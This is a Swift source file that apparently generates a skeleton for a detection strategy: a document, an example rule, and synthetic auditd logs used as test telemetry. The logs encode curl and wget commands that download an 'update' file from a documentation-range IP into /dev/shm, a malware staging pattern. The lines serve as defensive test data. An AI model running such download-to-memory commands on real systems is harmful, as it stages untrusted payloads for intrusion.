// SPDX-License-Identifier: Apache-2.0
import Foundation
import Strategies

/// The files of a fresh strategy: a document to fill in, one rule, and telemetry that tests it.
public struct StrategySkeleton: Sendable {
    /// The files.
    public let files: StrategyFiles

    /// Makes the files; the name is of lower-case words joined by dashes.
    public init(name: String) throws(StrategyError) {
        let words = name.split(separator: "-", omittingEmptySubsequences: false)
        let isName = words.allSatisfy { word in
            !word.isEmpty && word.allSatisfy { $0.isASCII && ($0.isLowercase || $0.isNumber) }
        }
        guard isName, name.count <= 64 else {
            throw StrategyError(path: name, message: "is no name for a strategy; use lower-case words joined by dashes")
        }
        var files = StrategyFiles(name: name)
        let id = UUID().uuidString.lowercased()
        let title = words.joined(separator: " ")
        files.files["strategy.md"] = Array(Self.document(title.prefix(1).uppercased() + title.dropFirst()).utf8)
        files.files["rules/example.yml"] = Array(Self.rule(id).utf8)
        files.files["telemetry/cases.yml"] = Array(Self.cases.utf8)
        let shm = ["curl", "-s", "-o", "/dev/shm/update", "http://192.0.2.10/update"]
        let home = ["curl", "-s", "-o", "/home/alice/report.pdf", "http://192.0.2.20/report.pdf"]
        let wget = ["wget", "-q", "-O", "/dev/shm/update", "http://192.0.2.10/update"]
        files.files["telemetry/download-to-memory.audit.log"] = Self.audit(shm)
        files.files["telemetry/download-to-home.audit.log"] = Self.audit(home)
        files.files["telemetry/download-by-other-program.audit.log"] = Self.audit(wget)
        self.files = files
    }

    /// Writes the strategy into a new folder below another, and gives its path; refuses when the folder exists.
    public func write(to parent: String) throws(StrategyError) -> String { try files.write(to: parent) }

    /// One start of a program as auditd records it (audit userspace, "type=SYSCALL", "type=EXECVE").
    private static func audit(_ arguments: [String]) -> [UInt8] {
        let stamp = "msg=audit(1767225600.100:4711):"
        let program = arguments[0]
        var text = "type=SYSCALL \(stamp) arch=c000003e syscall=59 success=yes exit=0 a0=55d0c0a01000 a1=55d0c0a02000"
        text += " a2=55d0c0a03000 a3=8 items=2 ppid=2000 pid=2001 auid=1000 uid=1000 gid=1000 euid=1000 suid=1000"
        text += " fsuid=1000 egid=1000 sgid=1000 fsgid=1000 tty=pts0 ses=3 comm=\"\(program)\""
        text += " exe=\"/usr/bin/\(program)\" key=\"exec\"\n"
        text += "type=EXECVE \(stamp) argc=\(arguments.count)"
        for (index, argument) in arguments.enumerated() { text += " a\(index)=\"\(argument)\"" }
        text += "\ntype=CWD \(stamp) cwd=\"/home/alice\"\n"
        text += "type=PATH \(stamp) item=0 name=\"/usr/bin/\(program)\" inode=100 dev=fe:00 mode=0100755 ouid=0 ogid=0"
        text += " rdev=00:00 nametype=NORMAL\ntype=EOE \(stamp) \n"
        return Array(text.utf8)
    }
}
